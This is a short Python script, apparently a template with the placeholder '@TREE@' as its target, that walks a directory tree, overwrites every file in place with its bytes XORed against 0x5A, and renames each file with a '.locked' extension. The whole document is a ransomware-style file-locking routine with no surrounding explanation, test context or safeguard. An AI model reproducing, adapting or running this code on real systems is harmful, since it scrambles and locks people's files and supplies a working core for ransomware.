import os
for folder, _, names in os.walk("@TREE@"):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb+") as file:
            data = file.read()
            file.seek(0)
            file.write(bytes(b ^ 0x5A for b in data))
        os.rename(path, path + ".locked")
